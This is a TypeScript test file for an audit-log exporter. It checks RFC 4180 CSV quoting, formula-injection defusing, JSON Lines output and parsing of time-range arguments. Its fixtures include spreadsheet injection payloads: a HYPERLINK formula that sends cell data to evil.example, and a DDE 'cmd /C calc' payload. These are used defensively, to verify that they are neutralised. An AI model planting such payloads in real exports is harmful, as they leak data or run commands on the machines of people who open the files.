// Audit export formatting (JSON Lines, RFC 4180 CSV defused against formula injection) and --since parsing.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { AuditRecord } from '@solo/protocol';
import { csvCell, formatAuditRecords, parseSince } from '../src/audit-format.ts';

const plain: AuditRecord = {
  at: '2024-05-01T12:00:00.000Z',
  door: 'nats',
  verb: 'deploy',
  tenant: 'acme',
  token_id: 'tok_1',
  outcome: 'ok',
  correlation_id: 'c-1',
  duration_ms: 1.5,
  service_id: 'counter',
};
const nasty: AuditRecord = {
  at: '2024-05-01T12:00:01.000Z',
  door: 'rest',
  verb: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  tenant: null,
  token_id: null,
  outcome: 'forbidden',
  correlation_id: 'a,b "quoted"\r\nnext line',
  duration_ms: 0,
  service_id: '+cmd|\' /C calc\'!A0',
};
const header = 'at,door,verb,tenant,token_id,outcome,correlation_id,duration_ms,service_id';

/** A strict RFC 4180 reader: the test's independent check that the output parses back into the intended cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      i += 1;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quote');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
            continue;
          }
          i += 1;
          break;
        }
        cell += text[i];
        i += 1;
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '"' || text[i] === '\n') throw new Error(`bare ${JSON.stringify(text[i])} in an unquoted cell at ${i}`);
        cell += text[i];
        i += 1;
      }
    }
    row.push(cell);
    if (text[i] === ',') {
      i += 1;
    } else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else {
      throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
    }
  }
  if (row.length > 0) throw new Error('last row not ended by CRLF');
  return rows;
}

describe('formatAuditRecords as csv', () => {
  it('writes a header row and one CRLF-ended row per record', () => {
    assert.equal(formatAuditRecords([plain], 'csv'), `${header}\r\n2024-05-01T12:00:00.000Z,nats,deploy,acme,tok_1,ok,c-1,1.5,counter\r\n`);
    assert.equal(formatAuditRecords([], 'csv'), `${header}\r\n`);
  });

  it('quotes, doubles quotes and defuses formulas so the file parses back to the intended cells', () => {
    const rows = parseCsv(formatAuditRecords([plain, nasty], 'csv'));
    assert.equal(rows.length, 3);
    assert.deepEqual(rows[0], header.split(','));
    assert.deepEqual(rows[2], [
      '2024-05-01T12:00:01.000Z',
      'rest',
      `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
      '',
      '',
      'forbidden',
      'a,b "quoted"\r\nnext line',
      '0',
      "'+cmd|' /C calc'!A0",
    ]);
  });

  const cells: Array<[string, string | number | null | undefined, string]> = [
    ['a plain value', 'deploy', 'deploy'],
    ['null', null, ''],
    ['undefined', undefined, ''],
    ['an empty string', '', ''],
    ['a number', 12.25, '12.25'],
    ['a comma', 'a,b', '"a,b"'],
    ['a quote', 'say "hi"', '"say ""hi"""'],
    ['only a quote', '"', '""""'],
    ['an LF', 'a\nb', '"a\nb"'],
    ['a CRLF', 'a\r\nb', '"a\r\nb"'],
    ['a leading =', '=1+2', "'=1+2"],
    ['a leading +', '+1', "'+1"],
    ['a leading -', '-2+3', "'-2+3"],
    ['a leading @', '@SUM(A1)', "'@SUM(A1)"],
    ['a leading tab', '\t=1', "'\t=1"],
    ['a leading CR', '\r=1', `"'\r=1"`],
    ['a leading full-width =', '＝1+2', "'＝1+2"],
    ['a formula with a comma', '=SUM(1,2)', `"'=SUM(1,2)"`],
    ['a formula with quotes', '=A1&"x"', `"'=A1&""x"""`],
    ['= in the middle', 'a=b', 'a=b'],
    ['unicode and emoji', 'café 🚀', 'café 🚀'],
    ['an apostrophe first', "'quoted", "'quoted"],
  ];
  for (const [why, value, want] of cells) {
    it(`writes ${why} as ${JSON.stringify(want)}`, () => assert.equal(csvCell(value), want));
  }
});

describe('formatAuditRecords as json', () => {
  it('writes one JSON object per line, keys in column order, that parse back to the records', () => {
    const out = formatAuditRecords([plain, nasty], 'json');
    assert.ok(out.endsWith('\n'));
    const lines = out.split('\n');
    assert.equal(lines.pop(), '');
    assert.equal(lines.length, 2);
    assert.deepEqual(lines.map((l) => JSON.parse(l) as unknown), [plain, nasty]);
    assert.deepEqual(Object.keys(JSON.parse(lines[0]!) as object), ['at', 'door', 'verb', 'tenant', 'token_id', 'outcome', 'correlation_id', 'duration_ms', 'service_id']);
    assert.equal(formatAuditRecords([], 'json'), '');
  });

  it('leaves out an absent service_id and keeps nulls', () => {
    const { service_id: _s, ...noService } = plain;
    const line = formatAuditRecords([{ ...noService, tenant: null }], 'json');
    assert.equal(line.includes('service_id'), false);
    assert.equal((JSON.parse(line) as AuditRecord).tenant, null);
  });

  it('escapes every character a line splitter could break a record on', () => {
    const verb = 'a\u2028b\u2029c\u0085d\ne\rf\u000bg\u000ch\u001ci';
    const out = formatAuditRecords([{ ...plain, verb }], 'json');
    const breakers = ['\n', '\r', '\u000b', '\u000c', '\u001c', '\u001d', '\u001e', '\u0085', '\u2028', '\u2029'];
    assert.deepEqual([...out.slice(0, -1)].filter((ch) => breakers.includes(ch)), []);
    assert.equal((JSON.parse(out) as AuditRecord).verb, verb);
  });

  it('rejects an unknown format with invalid_request', () => {
    assert.throws(() => formatAuditRecords([plain], 'xml' as 'json'), { code: 'invalid_request' });
  });
});

describe('parseSince', () => {
  const now = new Date('2024-05-10T12:00:00.000Z');
  const good: Array<[string, string]> = [
    ['30s', '2024-05-10T11:59:30.000Z'],
    ['15m', '2024-05-10T11:45:00.000Z'],
    ['2h', '2024-05-10T10:00:00.000Z'],
    ['7d', '2024-05-03T12:00:00.000Z'],
    ['1w', '2024-05-03T12:00:00.000Z'],
    ['0m', '2024-05-10T12:00:00.000Z'],
    [' 2h ', '2024-05-10T10:00:00.000Z'],
    ['2024-05-01', '2024-05-01T00:00:00.000Z'],
    ['2024-05-01T12:00:00Z', '2024-05-01T12:00:00.000Z'],
    ['2024-05-01T12:00:00.250Z', '2024-05-01T12:00:00.250Z'],
    ['2024-05-01T14:00+02:00', '2024-05-01T12:00:00.000Z'],
    ['2024-05-01T09:30:00-0230', '2024-05-01T12:00:00.000Z'],
    ['2024-02-29T00:00:00Z', '2024-02-29T00:00:00.000Z'],
  ];
  for (const [text, want] of good) {
    it(`reads ${JSON.stringify(text)}`, () => assert.equal(parseSince(text, now).toISOString(), want));
  }

  it('reads a time without a zone as local time', () => {
    assert.equal(parseSince('2024-05-01T12:00', now).getTime(), new Date(2024, 4, 1, 12, 0).getTime());
  });

  const bad = ['', '   ', 'yesterday', '15', 'm', '15 m', '-15m', '1.5h', '15min', '2y', '15M', '1e3s', '99999999999d', '2024-02-30', '2023-02-29',
    '2024-13-01', '2024-05-01T24:00:00Z', '2024-05-01T12:60Z', '05/01/2024', '2024-5-1', 'May 1 2024', '2024-05-01T12:00:00Zjunk', '1714564800'];
  for (const text of bad) {
    it(`rejects ${JSON.stringify(text)} with invalid_request`, () => {
      assert.throws(() => parseSince(text, now), (err: { code?: string; details?: { field?: string } }) => err.code === 'invalid_request' && err.details?.field === 'since');
    });
  }

  it('rejects a non-string with invalid_request', () => {
    assert.throws(() => parseSince(undefined as unknown as string, now), { code: 'invalid_request' });
  });
});
